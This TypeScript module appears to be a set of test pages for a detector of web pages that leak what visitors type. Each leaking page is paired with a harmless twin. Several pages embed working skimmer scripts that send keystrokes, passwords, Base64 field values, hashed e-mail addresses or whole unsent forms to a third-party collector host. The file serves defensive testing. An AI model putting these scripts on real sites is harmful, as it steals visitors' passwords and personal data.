import type { Behaviour } from './behaviour.ts';
import { html, inline, nothing, scriptFile } from './markup.ts';
import { COLLECTOR } from './thirdPartyHosts.ts';

const COLLECT = `https://${COLLECTOR}`;

const FIELDS = `<form onsubmit="return false">
<label>Name <input name="name" type="text" autocomplete="name"></label>
<label>E-mail <input name="email" type="email" autocomplete="email"></label>
<label>Message <textarea name="message"></textarea></label>
<button>Send</button>
</form>
`;

const SEARCH = '<label>Search <input name="q" type="search"></label>\n';

const PASSWORD = `<form onsubmit="return false" method="post">
<label>Name <input name="user" type="text"></label>
<label>Password <input name="password" type="password"></label>
<button>Sign in</button>
</form>
`;

const leak = (form: string): Behaviour['expects'] => ({
  before: { others: [COLLECTOR], typedLeaks: [{ to: COLLECTOR, form }] },
});

const AS_TYPED = 'as it was typed';

/** Pages that transmit what a visitor types, and pages that only listen. */
export const typingPages: readonly Behaviour[] = [
  {
    name: 'key-logger',
    description: 'Sends what is typed to another company with every key, before anything is sent off.',
    page: {
      html: html({
        title: 'Write to us',
        body: `${FIELDS}${inline(`document.addEventListener('input', ({ target }) => {
  fetch('${COLLECT}/typed?field=' + target.name + '&text=' + encodeURIComponent(target.value), { mode: 'no-cors' });
});`)}`,
      }),
    },
    expects: leak(AS_TYPED),
  },
  {
    name: 'shortcuts',
    twinOf: 'key-logger',
    description: 'Listens to every key for two shortcuts, and sends nothing.',
    page: {
      html: html({
        title: 'Help of the library',
        body: `${SEARCH}<dialog id="help">Press / to search.</dialog>${inline(`document.addEventListener('keydown', (event) => {
  if (event.target.matches('input, textarea')) return;
  if (event.key === '/') { event.preventDefault(); document.querySelector('[name=q]').focus(); }
  if (event.key === '?') document.querySelector('#help').show();
});`)}`,
      }),
    },
    expects: {},
  },
  {
    name: 'blur-beacon',
    description: 'Sends each field to another company in Base64 when it is left.',
    page: {
      html: html({
        title: 'Ask for an offer',
        body: `${FIELDS}${inline(`for (const field of document.querySelectorAll('input, textarea'))
  field.addEventListener('blur', () => {
    if (field.value) navigator.sendBeacon('${COLLECT}/left', JSON.stringify({ name: field.name, data: btoa(field.value) }));
  });`)}`,
      }),
    },
    expects: leak('Base64'),
  },
  {
    name: 'search-suggest',
    twinOf: 'blur-beacon',
    description: 'Asks its own host for suggestions while a search is typed.',
    page: {
      html: html({
        title: 'Search our books',
        body: `${SEARCH}<ul id="found"></ul>${inline(`document.querySelector('[name=q]').addEventListener('input', async ({ target }) => {
  const answer = await fetch('/suggest?q=' + encodeURIComponent(target.value));
  document.querySelector('#found').textContent = await answer.text();
});`)}`,
      }),
      paths: { '/suggest': nothing },
    },
    expects: {},
  },
  {
    name: 'hashed-mail',
    description: 'Sends the SHA-256 of an e-mail address to another company as soon as it is typed.',
    page: {
      html: html({
        title: 'Our letter to friends',
        body: `${FIELDS}${inline(`document.querySelector('[name=email]').addEventListener('change', async ({ target }) => {
  const bytes = new TextEncoder().encode(target.value.trim().toLowerCase());
  const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
  const hash = [...digest].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  new Image().src = '${COLLECT}/match.gif?em=' + hash;
});`)}`,
      }),
    },
    expects: leak('SHA-256'),
  },
  {
    name: 'form-check',
    twinOf: 'hashed-mail',
    description: 'Checks an e-mail address in the page, and tells nobody.',
    page: {
      html: html({
        title: 'Join the club',
        body: `${FIELDS}<p id="hint"></p>${inline(`document.addEventListener('input', ({ target }) => {
  document.querySelector('#hint').textContent = target.checkValidity() ? '' : 'Something is missing there.';
});`)}`,
      }),
    },
    expects: {},
  },
  {
    name: 'password-query',
    description: 'Sends a password to another company in the address of a picture.',
    page: {
      html: html({
        title: 'Members only',
        body: `${PASSWORD}${inline(`document.querySelector('[name=password]').addEventListener('input', ({ target }) => {
  new Image().src = '${COLLECT}/dot.gif?p=' + encodeURIComponent(target.value);
});`)}`,
      }),
    },
    expects: leak(AS_TYPED),
  },
  {
    name: 'password-meter',
    twinOf: 'password-query',
    description: 'Shows how good a password is, and keeps it in the page.',
    page: {
      html: html({
        title: 'Choose a password',
        body: `${PASSWORD}<meter id="strength" max="20"></meter>${inline(`document.querySelector('[name=password]').addEventListener('input', ({ target }) => {
  document.querySelector('#strength').value = target.value.length;
});`)}`,
      }),
    },
    expects: {},
  },
  {
    name: 'socket-keys',
    description: 'Sends what is typed to another company over a WebSocket.',
    page: {
      html: html({
        title: 'Tell us a story',
        body: `${FIELDS}${inline(`const line = new WebSocket('wss://${COLLECTOR}/live');
document.addEventListener('input', ({ target }) => {
  if (line.readyState === WebSocket.OPEN) line.send(JSON.stringify({ type: 'input', field: target.name, value: target.value }));
});`)}`,
      }),
    },
    expects: leak(AS_TYPED),
  },
  {
    name: 'chat-pings',
    twinOf: 'socket-keys',
    description: 'Holds a chat of another company open, which hears no word before it is sent off.',
    page: {
      html: html({
        title: 'Chat with us',
        body: `${FIELDS}${inline(`const line = new WebSocket('wss://${COLLECTOR}/chat');
const ping = () => line.send(JSON.stringify({ type: 'ping', at: performance.now() }));
line.addEventListener('open', () => { ping(); setInterval(ping, 2000); });
document.querySelector('form').addEventListener('submit', () => line.send(document.querySelector('[name=message]').value));`)}`,
      }),
    },
    expects: { before: { others: [COLLECTOR] } },
  },
  {
    name: 'typed-to-nobody',
    twinOf: 'key-logger',
    description: 'Tells another company that somebody types, and not what.',
    page: {
      html: html({
        title: 'A form with a counter',
        body: `${FIELDS}${inline(`let keys = 0;
document.addEventListener('keydown', () => {
  keys += 1;
  if (keys === 5) fetch('${COLLECT}/event?name=form_start&field=' + document.activeElement.name, { mode: 'no-cors' });
});`)}`,
      }),
    },
    expects: { before: { others: [COLLECTOR] } },
  },
  {
    name: 'whole-form',
    description: 'Posts the whole form to another company when typing pauses, though nobody sent it.',
    page: {
      html: html({
        title: 'Order a basket of apples',
        head: '<script src="/forms.js" defer></script>\n',
        body: FIELDS,
      }),
      paths: {
        '/forms.js': scriptFile(`let waiting = 0;
addEventListener('input', () => {
  clearTimeout(waiting);
  waiting = setTimeout(() => {
    const request = new XMLHttpRequest();
    request.open('POST', '${COLLECT}/draft');
    request.send(new URLSearchParams(new FormData(document.querySelector('form'))));
  }, 300);
});`),
      },
    },
    expects: leak(AS_TYPED),
  },
];
